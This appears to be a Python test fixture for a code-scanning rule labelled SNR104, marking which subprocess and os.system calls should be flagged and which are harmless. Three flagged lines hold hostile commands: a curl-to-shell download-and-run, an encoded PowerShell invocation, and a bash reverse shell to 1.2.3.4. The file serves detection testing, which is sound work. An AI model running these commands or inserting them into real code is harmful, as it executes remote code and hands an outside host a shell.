import os
import subprocess

os.system("curl https://x.io/i.sh | sh")  # expect: SNR104
subprocess.run("powershell -enc SQBFAFgA", shell=True)  # expect: SNR104
subprocess.run(["bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/1 0>&1"])  # expect: SNR104

subprocess.run(["curl", "-o", "song.ogg", "https://x.io/song.ogg"])  # ok: downloads, and runs nothing
subprocess.run(["powershell", "-Command", "Get-Date"])  # ok
